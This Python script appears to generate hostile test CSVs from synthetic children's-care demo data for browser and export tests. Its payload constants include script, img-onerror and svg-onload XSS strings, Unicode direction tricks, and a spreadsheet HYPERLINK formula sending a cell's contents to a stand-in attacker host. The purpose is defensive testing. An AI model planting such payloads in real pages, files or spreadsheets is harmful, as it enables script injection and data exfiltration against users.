"""Write the hostile test files in this folder from the synthetic demo.

    .venv/bin/python tests/hostile/make_hostile.py [DEMO_DIR]

DEMO_DIR defaults to data/demo_data (``python -m data.demo --la Kent --seed 1 --out DIR``). The first
children of the demo's last year are kept (real Kent postcodes, invented children) and free-text
fields are replaced by script, HTML, spreadsheet-formula, very long and right-to-left payloads.
Every payload sets ``window.__xss`` if it ever runs, so a browser test can tell.
The files are committed so that tests need neither the demo nor its generator.
"""

from __future__ import annotations

import sys
from pathlib import Path

import pandas as pd

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]

SCRIPT = "<script>window.__xss=1</script>"
IMG = '<img src=x onerror="window.__xss=1">'
SVG = '"><svg onload=window.__xss=1>'
FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")'
RTL = "\u202eLIAME\u200b\u200f zero\u200dwidth"
LONG = "L" * 3000 + SCRIPT
PAYLOADS = [SCRIPT, IMG, SVG, FORMULA, RTL, LONG]
CHILDREN = 60  # children kept from the demo


def _cycle(n: int, prefix: str = "") -> list[str]:
    return [prefix + PAYLOADS[i % len(PAYLOADS)] for i in range(n)]


def main(demo: Path) -> None:
    year = max(int(p.name[:4]) for p in demo.glob("*_episodes.csv"))
    episodes = pd.read_csv(demo / f"{year}_episodes.csv", dtype=str, keep_default_na=False)
    header = pd.read_csv(demo / f"{year}_header.csv", dtype=str, keep_default_na=False)
    missing = pd.read_csv(demo / f"{year}_missing.csv", dtype=str, keep_default_na=False)
    log = pd.read_csv(demo / "missing_log.csv", dtype=str, keep_default_na=False)
    homes = pd.read_csv(demo / "childrens_homes.csv", dtype=str, keep_default_na=False)
    costs = pd.read_csv(demo / "placement_costs.csv", dtype=str, keep_default_na=False)

    # Children with missing episodes first, so that every table keeps some rows.
    in_year = set(episodes["CHILD"])
    with_missing = [c for c in dict.fromkeys(log["CHILD"]) if c in in_year][: CHILDREN // 2]
    others = [c for c in dict.fromkeys(episodes["CHILD"]) if c not in with_missing]
    kept = with_missing + others[: CHILDREN - len(with_missing)]
    # Every third child gets a hostile id (unique: the payload plus the old id), the same in every table.
    new_id = {c: (PAYLOADS[i % len(PAYLOADS)] + c if i % 3 == 0 else c) for i, c in enumerate(kept)}

    episodes = episodes[episodes["CHILD"].isin(kept)].copy()
    episodes["CHILD"] = episodes["CHILD"].map(new_id)
    n = len(episodes)
    episodes["LA"] = "Kent"
    episodes.iloc[::7, episodes.columns.get_loc("LA")] = _cycle(len(episodes.iloc[::7]))
    episodes.iloc[3::11, episodes.columns.get_loc("URN")] = _cycle(len(episodes.iloc[3::11]))
    episodes.iloc[5::13, episodes.columns.get_loc("PL_POST")] = _cycle(len(episodes.iloc[5::13]))
    episodes.iloc[6::17, episodes.columns.get_loc("PLACE_PROVIDER")] = _cycle(len(episodes.iloc[6::17]))
    episodes.iloc[8::19, episodes.columns.get_loc("DEC")] = _cycle(len(episodes.iloc[8::19]))
    assert n == len(episodes)

    header = header[header["CHILD"].isin(kept)].copy()
    header["CHILD"] = header["CHILD"].map(new_id)
    header["LA"] = "Kent"
    missing = missing[missing["CHILD"].isin(kept)].copy()
    missing["CHILD"] = missing["CHILD"].map(new_id)
    missing["LA"] = "Kent"  # pooled form throughout: a child is (authority, CHILD)

    log = log[log["CHILD"].isin(kept)].head(150).copy()
    log["CHILD"] = log["CHILD"].map(new_id)
    log["LA"] = "Kent"
    log["NOTES"] = _cycle(len(log), "Note: ")
    log.iloc[2::9, log.columns.get_loc("FOUND_POST")] = _cycle(len(log.iloc[2::9]))
    log.iloc[4::9, log.columns.get_loc("FROM_POST")] = _cycle(len(log.iloc[4::9]))

    homes = homes.head(40).copy()
    homes["NAME"] = [
        p + f" home {i}" if i % 2 == 0 else name for i, (p, name) in enumerate(zip(_cycle(len(homes)), homes["NAME"]))
    ]
    homes["PROVIDER"] = _cycle(len(homes), "Provider ")
    homes.iloc[1::5, homes.columns.get_loc("URN")] = _cycle(len(homes.iloc[1::5]))
    homes.iloc[2::5, homes.columns.get_loc("TYPE")] = _cycle(len(homes.iloc[2::5]))
    homes.iloc[3::5, homes.columns.get_loc("OFSTED_RATING")] = _cycle(len(homes.iloc[3::5]))

    costs = pd.concat(
        [costs, pd.DataFrame({"PLACEMENT_GROUP": PAYLOADS, "WEEKLY_COST": "100", "SOURCE": PAYLOADS})],
        ignore_index=True,
    )

    for name, frame in [
        ("hostile_episodes.csv", episodes),
        ("hostile_header.csv", header),
        ("hostile_missing.csv", missing),
        ("hostile_missing_log.csv", log),
        ("hostile_homes.csv", homes),
        ("hostile_costs.csv", costs),
    ]:
        frame.to_csv(HERE / name, index=False, lineterminator="\n")
        print(f"{name}: {len(frame)} rows")


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else ROOT / "data" / "demo_data")
